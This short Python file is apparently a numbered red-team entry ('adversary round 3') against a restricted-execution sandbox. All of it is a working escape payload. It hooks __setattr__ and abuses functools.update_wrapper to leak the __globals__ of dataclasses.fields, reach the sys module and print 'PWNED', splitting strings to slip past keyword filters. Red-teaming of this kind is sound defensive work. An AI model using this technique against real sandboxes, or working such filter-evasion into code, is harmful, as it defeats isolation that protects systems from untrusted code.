# adversary round 3: 032_min_update_wrapper_sys
import functools,dataclasses
class S:
 def __setattr__(s,n,v):
  if n[2]=="g":print(v["s"+"ys"],"PWN"+"ED")
functools.update_wrapper(S(),dataclasses.fields,("__glo"+"bals__",),())
